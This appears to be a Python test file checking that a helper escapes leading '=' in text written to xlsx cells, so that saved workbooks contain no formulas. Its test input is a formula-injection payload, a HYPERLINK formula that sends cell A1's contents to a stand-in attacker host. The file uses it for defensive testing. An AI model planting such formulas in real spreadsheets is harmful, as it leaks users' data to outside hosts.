"""Text written into xlsx cells stays text: a value that begins with `=` is never written as a formula."""

from __future__ import annotations

from io import BytesIO

from openpyxl import Workbook, load_workbook

from gongjian_shared.office_text import office_text, put, xlsx_row, xlsx_safe

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"查看")'


def test_a_leading_equals_sign_is_quoted_and_other_text_is_kept() -> None:
    assert xlsx_safe(ATTACK) == "'" + ATTACK
    assert xlsx_safe("=") == "="  # one character: openpyxl keeps it as text
    assert xlsx_safe("+86 0915") == "+86 0915" and xlsx_safe("-5") == "-5" and xlsx_safe(12) == 12


def _formula_cells(row: list[object]) -> list[str]:
    book = Workbook()
    book.active.append(row)
    saved = BytesIO()
    book.save(saved)
    sheet = load_workbook(BytesIO(saved.getvalue())).active
    return [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def test_a_writer_that_only_cleans_the_text_is_caught_making_a_formula() -> None:
    # the broken variant: control characters stripped (office_text) but `=` left as it is
    assert _formula_cells([office_text(ATTACK)]) == ["A1"]
    assert _formula_cells(xlsx_row([ATTACK])) == []


def test_no_cell_of_a_saved_workbook_is_a_formula() -> None:
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        sheet.append(xlsx_row(["名称", ATTACK]))
        if not write_only:
            put(sheet, 2, 1, ATTACK)
        saved = BytesIO()
        book.save(saved)
        read = load_workbook(BytesIO(saved.getvalue()))
        cells = [cell for row in read.worksheets[-1].iter_rows() for cell in row if cell.value is not None]
        assert cells and all(cell.data_type == "s" for cell in cells), write_only
        assert read.worksheets[-1].cell(row=1, column=2).value == "'" + ATTACK
